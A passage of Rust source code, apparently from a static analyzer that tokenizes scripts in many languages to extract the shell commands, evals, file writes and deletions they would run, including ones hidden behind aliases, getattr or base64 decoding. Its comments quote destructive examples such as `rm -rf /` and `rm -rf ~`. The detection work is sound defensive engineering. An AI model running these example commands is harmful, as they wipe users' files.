        call_kind(word, code.lang, subprocess).is_some()
    });
    let tokens = getattr_calls(callee::resolved(
        decode::decoded(tokens, code.lang),
        code.lang,
    ));
    // Names bound to a decoded run-time value (`p = base64.b64decode(x)`).
    let decoded = decode::decoded_names(&tokens, budget);
    let mut found = Vec::new();
    if calls_computed_name(&tokens, code.lang) {
        found.push(COMPUTED.to_owned());
    }
    let mut computed = false;
    let mut at = 0;
    while let Some(token) = tokens.get(at)
        && found.len() <= MAX_COMMANDS
    {
        at += 1;
        let command = match token {
            Token::Str { text, runs: true } => Some(text.clone()),
            // Groovy's `"cmd".execute()` and `["rm", "-rf", "/"].execute()`, Scala's `"cmd".!`,
            // `.!!` and `Seq("rm", "-rf", "/").!`: a method that runs what it is called on.
            Token::Punct(b'.') if code.lang == Lang::Jvm && runs_its_receiver(tokens.get(at)) => {
                jvm_receiver_command(&tokens, at - 1, &decoded)
            }
            // Groovy's `new File(p) << text` appends to the file, `new File(p).text = …`
            // replaces it.
            Token::Punct(b'<')
                if code.lang == Lang::Jvm && tokens.get(at) == Some(&Token::Punct(b'<')) =>
            {
                receiver(&tokens, at - 1, code.lang)
                    .and_then(|value| shell_word(&value))
                    .filter(|word| !word.is_empty())
                    .map(|file| format!("printf %s \"{RUN_TIME}\" >> {file}"))
            }
            Token::Punct(b'.')
                if code.lang == Lang::Jvm
                    && matches!(tokens.get(at), Some(Token::Word(property)) if property == "text")
                    && tokens.get(at + 1) == Some(&Token::Punct(b'='))
                    && tokens.get(at + 2) != Some(&Token::Punct(b'=')) =>
            {
                receiver(&tokens, at - 1, code.lang)
                    .and_then(|value| shell_word(&value))
                    .filter(|word| !word.is_empty())
                    .map(|file| format!("printf %s \"{RUN_TIME}\" > {file}"))
            }
            // Bun's shell: $`rm -rf ~`.
            Token::Word(word)
                if code.lang == Lang::JavaScript
                    && word.ends_with('$')
                    && next_is_str(&tokens, at) =>
            {
                str_text(tokens.get(at))
            }
            Token::Word(word) => {
                let Some(kind) = call_kind(word, code.lang, subprocess) else {
                    continue;
                };
                let args = call_args(&tokens, at, code.lang);
                // Every call's arguments are read to their end: nested calls read the same
                // tokens again and again.
                let read: usize = args.iter().map(|arg| arg.len()).sum();
                if !budget.burn(STEP + TOKEN * read as u64) {
                    break;
                }
                let command = match kind {
                    // Perl's `exec {'/bin/sh'} 'sh', '-c', …`: the program in braces, then an
                    // argv that repeats it.
                    Call::Runs
                        if code.lang == Lang::Perl
                            && tokens.get(at) == Some(&Token::Punct(b'{')) =>
                    {
                        closing(&tokens, at).and_then(|close| {
                            let mut args = call_args(&tokens, close + 1, code.lang);
                            args.insert(0, tokens.get(at + 1..close).unwrap_or(&[]));
                            exec_command(&args, false, false, &decoded)
                        })
                    }
                    Call::Runs => {
                        // A command string decoded at run time (`os.system(b64decode(x))`).
                        let first = args.first().map(|arg| clean(arg)).unwrap_or_default();
                        if list_elements(&first).is_none()
                            && let Some(decoding) = decode::runtime(&first, &decoded)
                        {
                            found.extend(decoded_run("sh -c", decoding));
                        }
                        ruby_pair(&args, code.lang, &decoded)
                            .or_else(|| command_of(&args, &decoded))
                    }
                    Call::Evals => {
                        found.extend(evaluated(code.lang, &args, &decoded, depth, budget));
                        None
                    }
                    Call::Exec { mode, env } => exec_command(&args, mode, env, &decoded),
                    Call::Pasted => r_pasted(&args),
                    Call::ProgramArgs => r_program_args(&args),
                    // Perl's and Ruby's `open` runs a command or opens a file.
                    Call::Open => piped_open(&args, &decoded).or_else(|| {
                        let write = if code.lang == Lang::Perl {
                            write::Write::PerlOpen
                        } else {
                            write::Write::Opens { mode: 1 }
                        };
                        write::command(write, &tokens, at - 1, &args, code.lang)
                    }),
                    Call::Removes(removal) => {
                        removal_command(removal, &tokens, at - 1, &args, code.lang)
                    }
                    Call::Writes(write) => write::command(write, &tokens, at - 1, &args, code.lang),
                };
                computed |= command.is_none()
                    && matches!(
                        kind,
                        Call::Runs | Call::Exec { .. } | Call::Pasted | Call::ProgramArgs
                    )
                    && !args.is_empty();
                command
            }
            _ => None,
        };
        found.extend(command.filter(|command| !command.trim().is_empty()));
    }
    // A call runs a command built elsewhere (`c = 'rm -rf ~'; os.system(c)`, an alias, a
    // keyword argument): the code's literals with blanks may be that command.
    if computed {
        let room = MAX_COMMANDS.saturating_sub(found.len());
        let literals: Vec<String> = tokens
            .iter()
            .filter_map(|token| match token {
                Token::Str { text, runs: false } if text.trim().contains(' ') => Some(text.clone()),
                _ => None,
            })
            .filter(|text| !found.contains(text))
            .take(room)
            .collect();
        found.extend(literals);
    }
    found
}

/// Whether the token after a `.` is a JVM method that runs what it is called on: Groovy's
/// `execute`, Scala's `!` (and `!!`), `lazyLines` and `lineStream`.
fn runs_its_receiver(token: Option<&Token>) -> bool {
    match token {
        Some(Token::Punct(b'!')) => true,
        Some(Token::Word(method)) => {
            matches!(method.as_str(), "execute" | "lazyLines" | "lineStream")
        }
        _ => false,
    }
}

/// The command a JVM method run on a value (`.execute()`, Scala's `.!`) runs, the value ending
/// before the `.` at `dot`: a string is shell text (Java splits it into words), a list literal
/// (`[…]`) or a call making one (`Seq(…)`, `List(…)`, `listOf(…)`, `List.of(…)`,
/// `Process(…)`) an argv.
fn jvm_receiver_command(
    tokens: &[Token],
    dot: usize,
    decoded: &[(String, Decoding)],
) -> Option<String> {
    let before = dot.checked_sub(1)?;
    match tokens.get(before)? {
        Token::Str { text, .. } => Some(text.clone()),
        Token::Punct(b']') => {
            let open = opening(tokens, before)?;
            let inner: Vec<&Token> = tokens.get(open..=before)?.iter().collect();
            let items = list_items(&inner)?;
            let words: Vec<String> = items.iter().map(|item| argv_word(item, decoded)).collect();
            items
                .iter()
                .any(|item| matches!(item, [Token::Str { .. }]))
                .then(|| words.join(" "))
        }
        Token::Punct(b')') => {
            let open = opening(tokens, before)?;
            let Some(Token::Word(maker)) = open.checked_sub(1).and_then(|i| tokens.get(i)) else {
                return None;
            };
            let makes_list = matches!(
                maker.as_str(),
                "Seq"
                    | "List"
                    | "Array"
                    | "Vector"
                    | "listOf"
                    | "arrayOf"
                    | "List.of"
                    | "Arrays.asList"
                    | "Process"
            );
            makes_list
                .then(|| command_of(&call_args(tokens, open, Lang::Jvm), decoded))
                .flatten()
        }
        _ => None,
    }
}

/// `tokens` with the names bound in the code itself replaced by what they stand for, per
/// script: `import os as o` (`o.system` is `os.system`), `from os import system as s`,
/// `const { execSync: run } = require('child_process')`, `s = os.system` (for a name `known`
/// takes as a call), and `getattr(os, 'system')`.
fn resolve_aliases(tokens: Vec<Token>, known: impl Fn(&str) -> bool) -> Vec<Token> {
    // The last binding of a name wins.
    let mut names: HashMap<String, String> = HashMap::new();
    let mut modules: HashMap<String, String> = HashMap::new();
    let word_at = |i: usize| match tokens.get(i) {
        Some(Token::Word(word)) => Some(word.as_str()),
        _ => None,
    };
    for (at, token) in tokens.iter().enumerate() {
        match token {
            Token::Word(import) if import == "import" => {
                let from = at
                    .checked_sub(2)
                    .and_then(|i| (word_at(i) == Some("from")).then(|| word_at(i + 1)))
                    .flatten();
                let mut i = at + 1;
                if tokens.get(i) == Some(&Token::Punct(b'(')) {
                    i += 1;
                }
                while let Some(name) = word_at(i) {
                    let (alias, next) = match (word_at(i + 1), word_at(i + 2)) {
                        (Some("as"), Some(alias)) => (alias, i + 3),
                        _ => (name, i + 1),
                    };
                    match from {
                        Some(module) => {
                            names.insert(alias.to_owned(), format!("{module}.{name}"));
                        }
                        None if alias != name => {
                            modules.insert(alias.to_owned(), name.to_owned());
                        }
                        None => {}
                    }
                    i = next;
                    if tokens.get(i) != Some(&Token::Punct(b',')) {
                        break;
                    }
                    i += 1;
                    while tokens.get(i) == Some(&Token::Punct(b'\n')) {
                        i += 1;
                    }
                }
            }
            // `{ execSync: run, spawn } = …`.
            Token::Punct(b'}') => {
                if tokens.get(at + 1) != Some(&Token::Punct(b'='))
                    || tokens.get(at + 2) == Some(&Token::Punct(b'='))
                {
                    continue;
                }
                let Some(open) = opening(&tokens, at) else {
                    continue;
                };
                for i in open + 1..at {
                    if let (Some(name), Some(Token::Punct(b':')), Some(alias)) =
                        (word_at(i), tokens.get(i + 1), word_at(i + 2))
                    {
                        names.insert(alias.to_owned(), name.to_owned());
                    }
                }
            }
            // `s = os.system`, `const run = require('child_process').execSync`.
            Token::Punct(b'=') => {
                let Some(alias) = at.checked_sub(1).and_then(word_at) else {
                    continue;
                };
                let end = tokens
                    .get(at + 1..)
                    .unwrap_or(&[])
                    .iter()
                    .position(|t| {
                        !matches!(
                            t,
                            Token::Word(_) | Token::Str { .. } | Token::Punct(b'.' | b'(' | b')')
                        )
                    })
                    .map_or(tokens.len(), |offset| at + 1 + offset);
                if let Some(name) = end
                    .checked_sub(1)
                    .filter(|&last| last > at)
                    .and_then(word_at)
                    && known(name)
                {
                    names.insert(alias.to_owned(), name.to_owned());
                }
            }
            _ => {}
        }
    }
    let mut out = Vec::with_capacity(tokens.len());
    for token in tokens {
        let Token::Word(word) = token else {
            out.push(token);
            continue;
        };
        if let Some(name) = names.get(&word) {
            out.push(Token::Word(name.clone()));
            continue;
        }
        let first = word.split('.').next().unwrap_or(&word);
        if let Some(module) = modules.get(first) {
            let rest = word.get(first.len()..).unwrap_or("");
            out.push(Token::Word(format!("{module}{rest}")));
            continue;
        }
        out.push(Token::Word(word));
    }
    out
}

/// `getattr(os, 'system')` as the name `os.system` (the name read after [`decode::decoded`], so
/// that `getattr(os, 'sys' + 'tem')` is one too).
fn getattr_calls(tokens: Vec<Token>) -> Vec<Token> {
    let mut out: Vec<Token> = Vec::with_capacity(tokens.len());
    for token in tokens {
        out.push(token);
        let start = out.len().saturating_sub(6);
        if let Some(
            [
                Token::Word(getattr),
                Token::Punct(b'('),
                Token::Word(object),
                Token::Punct(b','),
                Token::Str { text, runs: false },
                Token::Punct(b')'),
            ],
        ) = out.get(start..)
            && getattr == "getattr"
            && text.bytes().all(is_word_byte)
        {
            let name = Token::Word(format!("{object}.{text}"));
            out.truncate(start);
            out.push(name);
        }
    }
    out
}

fn next_is_str(tokens: &[Token], at: usize) -> bool {
    matches!(tokens.get(at), Some(Token::Str { .. }))
}

fn str_text(token: Option<&Token>) -> Option<String> {
    match token {
        Some(Token::Str { text, .. }) => Some(text.clone()),
        _ => None,
    }
}

/// One token of interpreter code.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    /// A string literal, unescaped, interpolations as [`RUN_TIME`]; `runs` for a command in
    /// backquotes, `qx` or `%x`.
    Str { text: String, runs: bool },
    /// A name: letters, digits, `_`, a leading `$` or `@`, joined by `.` or `::`.
    Word(String),
    /// Any other character (newlines included; blanks and comments are skipped).
    Punct(u8),
}

/// Splits `code` into tokens, in one pass.
fn tokens(code: &Code<'_>) -> Vec<Token> {
    let bytes = code.text.as_bytes();
    let lang = code.lang;
    let mut out = Vec::new();
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        match byte {
            b' ' | b'\t' | b'\r' => at += 1,
            // Elixir's sigils: `~c"…"`, `~s(…)`, `~S[…]` (capitals keep their escapes).
            b'~' if lang == Lang::Elixir
                && bytes.get(at + 1).is_some_and(u8::is_ascii_alphabetic)
                && bytes.get(at + 2).is_some_and(|b| b"\"'(/[{<|".contains(b)) =>
            {
                let raw = bytes.get(at + 1).is_some_and(u8::is_ascii_uppercase);
                let escapes = if raw { Escapes::Raw } else { Escapes::Full };
                let (text, end) = delimited(bytes, at + 2, lang, escapes);
                out.push(Token::Str { text, runs: false });
                at = end;
            }
            // Erlang's comments run from `%` to the end of the line; `$c` is a character.
            b'%' if lang == Lang::Erlang => at = line_end(bytes, at),
            b'$' if lang == Lang::Erlang => {
                out.push(Token::Punct(byte));
                at += 2;
            }
            // Haskell's comments: `--` to the end of the line, `{- … -}` a block.
            b'-' if lang == Lang::Haskell && bytes.get(at + 1) == Some(&b'-') => {
                at = line_end(bytes, at);
            }
            b'{' if lang == Lang::Haskell && bytes.get(at + 1) == Some(&b'-') => {
                at = find(bytes, at + 2, b"-}").map_or(bytes.len(), |end| end + 2);
            }
            // Octave's comments start with `%` (or `#`).
            b'%' if lang == Lang::Octave => at = line_end(bytes, at),
            // Julia's and Octave's `'` after a value transposes it (`a'`), Haskell's ends a name
            // (`foldl'`); elsewhere it quotes a character.
            b'\''
                if matches!(lang, Lang::Julia | Lang::Haskell | Lang::Octave)
                    && at
                        .checked_sub(1)
                        .and_then(|i| bytes.get(i))
                        .is_some_and(|&b| is_word_byte(b) || b")]}'.".contains(&b)) =>
            {
                out.push(Token::Punct(byte));
                at += 1;
            }
            // Julia's block comments, `#= … =#`, nest.
            b'#' if lang == Lang::Julia && bytes.get(at + 1) == Some(&b'=') => {
                at = julia_comment_end(bytes, at);
            }
            // Lua's comments: `--` to the end of the line, `--[[ … ]]` (`--[==[ … ]==]`) a block.
            b'-' if lang == Lang::Lua && bytes.get(at + 1) == Some(&b'-') => {
                at = match long_bracket(bytes, at + 2) {
                    Some((level, start)) => long_bracket_close(bytes, start, level).1,
                    None => line_end(bytes, at),
                };
            }
            // Lua's long strings, `[[ … ]]` and `[==[ … ]==]`: no escapes; a first line break is
            // not part of the string.
            b'[' if lang == Lang::Lua && long_bracket(bytes, at).is_some() => {
                let (level, start) = long_bracket(bytes, at).unwrap_or((0, at + 2));
                let start = match bytes.get(start..start + 2) {
                    Some(b"\r\n") => start + 2,
                    Some([b'\n', ..]) => start + 1,
                    _ => start,
                };
                let (close, end) = long_bracket_close(bytes, start, level);
                let text = String::from_utf8_lossy(bytes.get(start..close).unwrap_or(&[]));
                out.push(Token::Str {
                    text: text.into_owned(),
                    runs: false,
                });
                at = end;
            }
            // Lua has no backquotes; R's quote a name (`` `system`("…") ``).
            b'`' if lang == Lang::Lua => {
                out.push(Token::Punct(byte));
                at += 1;
            }
            b'`' if lang == Lang::R => {
                let end = bytes
                    .get(at + 1..)
                    .and_then(|rest| rest.iter().position(|&b| b == b'`'))
                    .map_or(bytes.len(), |offset| at + 1 + offset);
                let name = String::from_utf8_lossy(bytes.get(at + 1..end).unwrap_or(&[]));
                out.push(Token::Word(name.into_owned()));
                at = end + 1;
            }
            // Julia's command literal, `` `rm -rf $dir` ``: an argv, which the code makes to run.
            b'`' if lang == Lang::Julia => {
                let (text, end) = julia_command(bytes, at + 1);
                out.push(Token::Str { text, runs: true });
                at = end;
            }
            // Perl's `$#array` and `s#…#…#` are no comments.
            b'#' if lang.hash_comments()
                && !(lang == Lang::Perl
                    && at
                        .checked_sub(1)
                        .and_then(|i| bytes.get(i))
                        .is_some_and(|b| !b.is_ascii_whitespace() && !b";{}(".contains(b))) =>
            {
                at = line_end(bytes, at);
            }
            b'/' if lang.slash_comments() && bytes.get(at + 1) == Some(&b'/') => {
                at = line_end(bytes, at);
            }
            b'/' if lang.slash_comments() && bytes.get(at + 1) == Some(&b'*') => {
                at = find(bytes, at + 2, b"*/").map_or(bytes.len(), |end| end + 2);
            }
            b'\'' | b'"' | b'`' => {
                // JavaScript's String.raw`…` keeps its backslashes.
                let raw = byte == b'`'
                    && matches!(out.last(), Some(Token::Word(tag)) if tag == "String.raw");
                let escapes = if raw {
                    out.pop();
                    Escapes::Raw
                } else {
                    Escapes::of(lang, byte)
                };
                let (text, end) = quoted(bytes, at, lang, escapes);
                let runs = byte == b'`' && lang.backquotes_run();
                out.push(Token::Str { text, runs });
                at = end;
            }
            b'%' if lang == Lang::Ruby => match percent_literal(bytes, at) {
                Some((kind, open)) => {
                    let escapes = if matches!(kind, b'q' | b'w' | b'i') {
                        Escapes::Single
                    } else {
                        Escapes::Full
                    };
                    let (mut text, end) = delimited(bytes, open, lang, escapes);
                    if escapes == Escapes::Full {
                        text = interpolated(&text, "#{", "}");
                    }
                    out.push(Token::Str {
                        text,
                        runs: kind == b'x',
                    });
                    at = end;
                }
                None => {
                    out.push(Token::Punct(byte));
                    at += 1;
                }
            },
            _ if is_word_start(byte) => {
                let end = word_end(bytes, at);
                let word = code.text.get(at..end).unwrap_or("");
                // Perl's quote-like operators: q(…), qq{…}, qw/…/, qx(…), qx'…' (which
                // interpolates nothing).
                if lang == Lang::Perl
                    && matches!(word, "q" | "qq" | "qw" | "qx")
                    && bytes
                        .get(end)
                        .is_some_and(|b| b"({[</|!'\"#%~^,:@+".contains(b))
                {
                    let escapes = if matches!(word, "q" | "qw") || bytes.get(end) == Some(&b'\'') {
                        Escapes::Single
                    } else {
                        Escapes::Full
                    };
                    let (mut text, close) = delimited(bytes, end, lang, escapes);
                    if escapes == Escapes::Full {
                        text = perl_home(text);
                    }
                    out.push(Token::Str {
                        text,
                        runs: word == "qx",
                    });
                    at = close;
                    continue;
                }
                // Python's string prefixes: r"…", f'…', rb"…".
                if lang == Lang::Python
                    && word.len() <= 2
                    && word.bytes().all(|b| b"rRbBuUfF".contains(&b))
                    && matches!(bytes.get(end), Some(b'\'' | b'"'))
                {
                    let raw = word.bytes().any(|b| b == b'r' || b == b'R');
                    let escapes = if raw { Escapes::Raw } else { Escapes::Full };
                    let (mut text, close) = quoted(bytes, end, lang, escapes);
                    if word.bytes().any(|b| b == b'f' || b == b'F') {
                        text = interpolated(&text, "{", "}");
                    }
                    out.push(Token::Str { text, runs: false });
                    at = close;
                    continue;
                }
                // R's raw strings: r"(…)", R"[…]", r'---{…}---'.
                if lang == Lang::R
                    && matches!(word, "r" | "R")
                    && let Some((text, close)) = r_raw_string(bytes, end)
                {
                    out.push(Token::Str { text, runs: false });
                    at = close;
                    continue;
                }
                // Julia's raw"…".
                if lang == Lang::Julia && word == "raw" && bytes.get(end) == Some(&b'"') {
                    let (text, close) = quoted(bytes, end, lang, Escapes::Raw);
                    out.push(Token::Str { text, runs: false });
                    at = close;
                    continue;
                }
                // Erlang's calls name their module before a `:` (`os:cmd`); Elixir's names may
                // end in `!` or `?` (`File.rm_rf!`), which says how it fails, not what it does.
                let (word, end) = match lang {
                    Lang::Erlang => {
                        let mut end = end;
                        while bytes.get(end) == Some(&b':')
                            && bytes.get(end + 1).copied().is_some_and(is_word_start)
                        {
                            end = word_end(bytes, end + 1);
                        }
                        (code.text.get(at..end).unwrap_or(""), end)
                    }
                    Lang::Elixir
                        if matches!(bytes.get(end), Some(b'!' | b'?'))
                            && bytes.get(end + 1) != Some(&b'=') =>
                    {
                        (word, end + 1)
                    }
                    _ => (word, end),
                };
                out.push(Token::Word(word.to_owned()));
                at = end;
            }
            _ => {
                out.push(Token::Punct(byte));
                at += 1;
            }
        }
    }
    if lang == Lang::Python {
        python_executable(&mut out);
    }
    out
}

/// Python's `sys.executable` as the interpreter it is (`python3`): `subprocess.run([sys.executable,
/// "-m", "pytest"])` runs `python3 -m pytest`. Not where the code may rebind `sys` or change it
/// otherwise: `sys` anywhere but `import sys` (`sys = …`, `import x as sys`, `from x import
/// sys`, `f(sys)`), an assignment to `sys.…`, `import sys as s`, `from x import *`, and code
/// that reaches modules or names indirectly (`exec`, `setattr`, `sys.modules`, `os.sys`,
/// `importlib`, …); nor where the code does not import `sys`.
fn python_executable(tokens: &mut [Token]) {
    const REACHES: &[&str] = &[
        "exec",
        "eval",
        "compile",
        "globals",
        "locals",
        "vars",
        "getattr",
        "setattr",
        "delattr",
        "__import__",
        "importlib",
        "builtins",
        "__builtins__",
        "modules",
        "__dict__",
        "sys",
        "attrgetter",
        "gc",
        "ctypes",
    ];
    let used = |token: &Token| matches!(token, Token::Word(word) if word == "sys.executable");
    if !tokens.iter().any(used) {
        return;
    }
    let word = |i: usize| match tokens.get(i) {
        Some(Token::Word(word)) => Some(word.as_str()),
        _ => None,
    };
    let punct = |i: usize, byte: u8| matches!(tokens.get(i), Some(Token::Punct(p)) if *p == byte);
    let rebinds = tokens.iter().enumerate().any(|(i, token)| {
        let Token::Word(name) = token else {
            return false;
        };
        let mut parts = name.split('.');
        let first = parts.next().unwrap_or_default();
        let reaches = parts.any(|part| REACHES.contains(&part))
            || (first != "sys" && REACHES.contains(&first));
        let assigned = (first == "sys")
            && ((punct(i + 1, b'=') && !punct(i + 2, b'='))
                || (punct(i + 1, b':') && punct(i + 2, b'='))
                || (tokens.get(i + 2).is_some_and(|t| *t == Token::Punct(b'='))
                    && matches!(
                        tokens.get(i + 1),
                        Some(Token::Punct(b'+' | b'-' | b'|' | b'&'))
                    )));
        // `import sys`, `import os, sys`; not `from x import sys`.
        let statement = (0..i)
            .rev()
            .take(32)
            .find(|&j| !punct(j, b',') && word(j).is_none_or(|w| w == "import"));
        let imported = statement.is_some_and(|j| {
            word(j) == Some("import")
                && j.checked_sub(2)
                    .is_none_or(|from| word(from) != Some("from"))
        }) && word(i + 1) != Some("as");
        let star = name == "import" && punct(i + 1, b'*');
        reaches || assigned || star || (name == "sys" && !imported)
    });
    // Every bare `sys` is then an `import sys`.
    let sys_imported = tokens
        .iter()
        .any(|token| matches!(token, Token::Word(w) if w == "sys"));
    if rebinds || !sys_imported {
        return;
    }
    for token in tokens.iter_mut().filter(|token| used(token)) {
        *token = Token::Str {
            text: "python3".to_owned(),
            runs: false,
        };
    }
}

fn is_word_start(byte: u8) -> bool {
    byte.is_ascii_alphabetic() || matches!(byte, b'_' | b'$' | b'@')
}

fn is_word_byte(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

/// The end of a name starting at `at`: word bytes, joined by `.` or `::` to more.
fn word_end(bytes: &[u8], at: usize) -> usize {
    let mut end = at + 1;
    loop {
        while bytes.get(end).copied().is_some_and(is_word_byte) {
            end += 1;
        }
        let joint = match (bytes.get(end), bytes.get(end + 1)) {
            (Some(b'.'), _) => 1,
            (Some(b':'), Some(b':')) => 2,
            _ => return end,
        };
        if !bytes.get(end + joint).copied().is_some_and(is_word_byte) {
            return end;
        }
        end += joint;
    }
}

/// A Lua long bracket opening at `at` (`[[`, `[==[`): its level (the number of `=`) and the
/// index after it.
fn long_bracket(bytes: &[u8], at: usize) -> Option<(usize, usize)> {
    if bytes.get(at) != Some(&b'[') {
        return None;
    }
    let level = bytes
        .get(at + 1..)?
        .iter()
        .take_while(|&&b| b == b'=')
        .count();
    (bytes.get(at + 1 + level) == Some(&b'[')).then_some((level, at + 2 + level))
}

/// The long bracket of `level` that closes after `from`: where it starts and the index after it
/// (the end of the text for one left open).
fn long_bracket_close(bytes: &[u8], from: usize, level: usize) -> (usize, usize) {
    let mut closer = vec![b']'];
    closer.extend(std::iter::repeat_n(b'=', level));
    closer.push(b']');
    find(bytes, from, &closer).map_or((bytes.len(), bytes.len()), |close| {
        (close, close + closer.len())
    })
}

/// The index after Julia's block comment at `at` (`#= … =#`, nested).
fn julia_comment_end(bytes: &[u8], at: usize) -> usize {
    let mut depth = 0usize;
    let mut i = at;
    while i < bytes.len() {
        match bytes.get(i..i + 2) {
            Some(b"#=") => {
                depth += 1;
                i += 2;
            }
            Some(b"=#") => {
                depth = depth.saturating_sub(1);
                i += 2;
                if depth == 0 {
                    return i;
                }
            }
            _ => i += 1,
        }
    }
    bytes.len()
}

/// R's raw string whose quote is at `quote` (`r"(…)"`, `r"---[…]---"`): its text and the index
/// after it; `None` when no raw string starts there.
fn r_raw_string(bytes: &[u8], quote: usize) -> Option<(String, usize)> {
    let q = *bytes.get(quote).filter(|&&b| b == b'"' || b == b'\'')?;
    let dashes = bytes
        .get(quote + 1..)?
        .iter()
        .take_while(|&&b| b == b'-')
        .count();
    let open = quote + 1 + dashes;
    let close = match bytes.get(open)? {
        b'(' => b')',
        b'[' => b']',
        b'{' => b'}',
        _ => return None,
    };
    let mut closer = vec![close];
    closer.extend(std::iter::repeat_n(b'-', dashes));
    closer.push(q);
    let start = open + 1;
    let (end, after) = find(bytes, start, &closer)
        .map_or((bytes.len(), bytes.len()), |end| (end, end + closer.len()));
    let text = String::from_utf8_lossy(bytes.get(start..end).unwrap_or(&[])).into_owned();
    Some((text, after))
}

fn line_end(bytes: &[u8], at: usize) -> usize {
    bytes
        .get(at..)
        .and_then(|rest| rest.iter().position(|&b| b == b'\n'))
        .map_or(bytes.len(), |offset| at + offset)
}

fn find(bytes: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    bytes
        .get(from..)?
        .windows(needle.len())
        .position(|window| window == needle)
        .map(|offset| from + offset)
}

/// How a string literal's backslashes read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Escapes {
    /// A backslash stays, though one before the quote still does not end the string (Python's
    /// `r'…'`, JavaScript's `String.raw`).
    Raw,
    /// Only `\\` and a backslash before the delimiter are escapes (single quotes in Perl, Ruby
    /// and PHP; `q(…)`, `%q(…)`).
    Single,
    /// The language's escapes: `\x7e`, `\u007e`, `\176`, `\n`, …
    Full,
}

impl Escapes {
    /// How a string in `quote` reads in `lang`.
    fn of(lang: Lang, quote: u8) -> Self {
        match (lang, quote) {
            (Lang::Perl | Lang::Ruby | Lang::Php, b'\'') => Self::Single,
            _ => Self::Full,
        }
    }
}

/// A string quoted by `bytes[at]` (`'`, `"`, a backquote; Python's triple quotes too): its text
/// and the index after it. An unclosed string runs to the end.
fn quoted(bytes: &[u8], at: usize, lang: Lang, escapes: Escapes) -> (String, usize) {
    let quote = bytes.get(at).copied().unwrap_or(b'"');
    let triple = matches!(lang, Lang::Python | Lang::Julia | Lang::Jvm | Lang::Elixir)
        && bytes.get(at + 1) == Some(&quote)
        && bytes.get(at + 2) == Some(&quote);
    let closing = [quote; 3];
    let (start, closing) = if triple {
        (at + 3, &closing[..])
    } else {
        (at + 1, &closing[..1])
    };
    let mut text = Vec::new();
    let mut i = start;
    while let Some(&byte) = bytes.get(i) {
        if bytes.get(i..i + closing.len()) == Some(closing) {
            let text = String::from_utf8_lossy(&text).into_owned();
            return (interpolations(text, quote, lang), i + closing.len());
        }
        if byte == b'\\' {
            i += 1 + unescape(
                bytes.get(i + 1..).unwrap_or(&[]),
                lang,
                escapes,
                quote,
                &mut text,
            );
        } else {
            text.push(byte);
            i += 1;
        }
    }
    let text = String::from_utf8_lossy(&text).into_owned();
    (interpolations(text, quote, lang), bytes.len())
}

/// Reads the escape after a backslash (`rest` starts after it) into `out`, as `lang` reads it in
/// a string delimited by `delimiter`; how many bytes of `rest` it took.
fn unescape(rest: &[u8], lang: Lang, escapes: Escapes, delimiter: u8, out: &mut Vec<u8>) -> usize {
    let Some(&next) = rest.first() else {
        out.push(b'\\');
        return 0;
    };
    match escapes {
        Escapes::Raw => {
            out.extend([b'\\', next]);
            return 1;
        }
        Escapes::Single => {
            if next != b'\\' && next != delimiter {
                out.push(b'\\');
            }
            out.push(next);
            return 1;
        }
        Escapes::Full => {}
    }
    let perl = lang == Lang::Perl;
    let simple = match next {
        b'n' => Some(b'\n'),
        b't' => Some(b'\t'),
        b'r' => Some(b'\r'),
        b'f' => Some(0x0c),
        b'v' if !perl => Some(0x0b),
        b'a' if lang != Lang::JavaScript && lang != Lang::Php => Some(0x07),
        b'b' if lang != Lang::Php => Some(0x08),
        b'e' if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Php | Lang::Julia) => Some(0x1b),
        b's' if lang == Lang::Ruby => Some(b' '),
        _ => None,
    };
    if let Some(byte) = simple {
        out.push(byte);
        return 1;
    }
    match next {
        // A line continuation inside the string.
        b'\n' if matches!(lang, Lang::Python | Lang::JavaScript | Lang::Ruby) => 1,
        // Julia's continuation also drops the next line's indentation.
        b'\n' if lang == Lang::Julia => {
            1 + rest
                .get(1..)
                .unwrap_or(&[])
                .iter()
                .take_while(|b| matches!(b, b' ' | b'\t'))
                .count()
        }
        // Lua's `\z` skips the blanks and line breaks after it.
        b'z' if lang == Lang::Lua => {
            1 + rest
                .get(1..)
                .unwrap_or(&[])
                .iter()
                .take_while(|b| b.is_ascii_whitespace())
                .count()
        }
        // Lua's `\ddd` is decimal (`\126` is `~`).
        b'0'..=b'9' if lang == Lang::Lua => {
            let (code, len) = digits(rest, 0, 3, 10);
            push_char(code, out);
            len
        }
        b'0'..=b'7' => {
            let (code, len) = digits(rest, 0, 3, 8);
            push_char(code, out);
            len
        }
        b'x' | b'o'
            if rest.get(1) == Some(&b'{') && (perl || (next == b'x' && lang == Lang::Php)) =>
        {
            let radix = if next == b'x' { 16 } else { 8 };
            let (code, len) = digits(rest, 2, 8, radix);
            push_char(code, out);
            1 + len + 1 + usize::from(rest.get(2 + len) == Some(&b'}'))
        }
        b'x' => {
            let (min, max) = match lang {
                Lang::Python | Lang::JavaScript | Lang::Lua => (2, 2),
                _ => (1, 2),
            };
            match digits(rest, 1, max, 16) {
                (code, len) if len >= min => {
                    push_char(code, out);
                    1 + len
                }
                _ => unknown_escape(next, lang, out),
            }
        }
        b'u' if rest.get(1) == Some(&b'{')
            && matches!(
                lang,
                Lang::JavaScript | Lang::Ruby | Lang::Php | Lang::Lua | Lang::R
            ) =>
        {
            let (code, len) = digits(rest, 2, 8, 16);
            push_char(code, out);
            1 + len + 1 + usize::from(rest.get(2 + len) == Some(&b'}'))
        }
        // Julia's and R's `\u` take one to four digits, `\U` one to eight.
        b'u' | b'U' if matches!(lang, Lang::Julia | Lang::R) => {
            let max = if next == b'U' { 8 } else { 4 };
            match digits(rest, 1, max, 16) {
                (code, len) if len > 0 => {
                    push_char(code, out);
                    1 + len
                }
                _ => unknown_escape(next, lang, out),
            }
        }
        b'u' | b'U' if matches!(lang, Lang::Python | Lang::JavaScript | Lang::Ruby) => {
            let want = if next == b'U' && lang == Lang::Python {
                8
            } else {
                4
            };
            match digits(rest, 1, want, 16) {
                (code, len) if len == want && (next == b'u' || lang == Lang::Python) => {
                    push_char(code, out);
                    1 + len
                }
                _ => unknown_escape(next, lang, out),
            }
        }
        // Perl's case changes and quoting (`\u`, `\L`, `\Q`, `\E`) change no path.
        b'u' | b'l' | b'U' | b'L' | b'Q' | b'E' | b'F' if perl => 1,
        // Perl's `\N{U+7E}`.
